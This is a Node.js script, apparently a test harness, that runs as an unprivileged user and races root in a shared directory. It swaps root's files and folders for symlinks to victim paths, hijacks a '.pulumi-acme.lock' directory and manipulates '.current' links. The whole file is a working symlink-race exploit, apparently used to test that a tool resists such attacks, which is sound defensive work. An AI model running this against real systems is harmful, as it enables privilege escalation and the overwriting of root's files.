/**
 * Run as an unprivileged user who owns a directory in which root works. As fast as it can, it exchanges what root makes
 * there: files for links to a file of root's, folders for links to a directory of root's or for folders of its own, in
 * which it exchanges files again. With "current" it also plays with .current. Ends when its input does.
 */
import { setImmediate as turn } from "node:timers/promises";
import {
  lstatSync,
  mkdirSync,
  readdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";

const [directory = "", file = "", victim = "", play = ""] = process.argv.slice(1);
process.chdir(directory);
process.stdin.on("end", () => process.exit()).resume();

/** Each of these may come too late, or to a name that is gone. */
function attempt(action) {
  try {
    return action();
  } catch {
    return undefined;
  }
}

let serial = 0;
const spare = () => `.attack-${String(serial++)}`;

/** Renames a new link over `name`. */
function replace(name, target) {
  const link = spare();
  attempt(() => symlinkSync(target, link));
  attempt(() => renameSync(link, name));
}

const rootsFolder = (facts) => facts?.isDirectory() === true && facts.uid === 0;

/** When a file was first seen, and at which of its moments it will be exchanged. */
const files = new Map();
function exchangeFile(path) {
  const facts = attempt(() => lstatSync(path));
  if (facts?.isFile() !== true || facts.uid !== 0) return;
  const key = `${path} ${String(facts.ino)} ${String(facts.birthtimeMs)}`;
  const now = performance.now();
  if (!files.has(key)) files.set(key, { moment: files.size % 4, seen: now });
  const { moment, seen } = files.get(key);
  // While it is empty; when there is something in it; some time later, when its checksum has been taken.
  if (moment > 0 && facts.size === 0) return;
  if (moment > 1 && now - seen < [0, 0, 2, 4][moment] + Math.random() * 3) return;
  replace(path, file);
}

const folders = new Set();
const traps = new Set();
/** With somebody else's lock in its place a run waits: a second each time that it is gone again. */
let locks = 3;
const isLock = (name) => name === ".pulumi-acme.lock";
function exchangeFolder(name) {
  const facts = attempt(() => lstatSync(name));
  if (!rootsFolder(facts)) return;
  const key = `${name} ${String(facts.ino)}`;
  if (folders.has(key) || (isLock(name) && locks === 0)) return;
  folders.add(key);
  const [kind, trap] = [folders.size % 7, spare()];
  // Most runs may go on, to where there is more to attack.
  if (kind === 0 || kind > 3) return;
  if (kind === 1) attempt(() => symlinkSync(victim, trap));
  else attempt(() => mkdirSync(trap));
  if (kind === 2)
    for (const inner of ["new", "old", "trash"])
      attempt(() => symlinkSync(victim, `${trap}/${inner}`));
  attempt(() => renameSync(name, spare()));
  attempt(() => renameSync(trap, name));
  if (kind !== 1) traps.add(name);
  if (!isLock(name)) return;
  locks -= 1;
  setTimeout(() => attempt(() => renameSync(name, spare())), 20);
}

/** .current leads to a folder of this user's, to a link, out of the directory; and the folder becomes a link. */
function playWithCurrent() {
  replace(".current", [".v-1-mine", victim, ".v-1-link", "../victim"][serial % 4]);
  attempt(() => renameSync(".v-1-mine", ".attack-mine"));
  attempt(() => symlinkSync(victim, ".v-1-mine"));
  attempt(() => rmSync(".v-1-mine"));
  attempt(() => renameSync(".attack-mine", ".v-1-mine"));
}

if (play === "current") {
  mkdirSync(".v-1-mine");
  symlinkSync(victim, ".v-1-link");
  for (const name of readdirSync(victim)) writeFileSync(`.v-1-mine/${name}`, "mine");
}
process.stdout.write("ready\n");
for (let round = 1; ; round++) {
  for (const name of attempt(() => readdirSync(".")) ?? []) {
    if (name.startsWith(".attack-")) continue;
    if (name.startsWith(".v-") || name.startsWith(".pulumi-acme")) exchangeFolder(name);
    if (name !== ".pulumi-acme") exchangeFile(name);
  }
  for (const trap of traps) {
    for (const name of attempt(() => readdirSync(trap)) ?? []) exchangeFile(`${trap}/${name}`);
  }
  if (play === "current") playWithCurrent();
  if (round % 100 === 0) {
    if (traps.size > 20) traps.clear();
    await turn();
  }
}
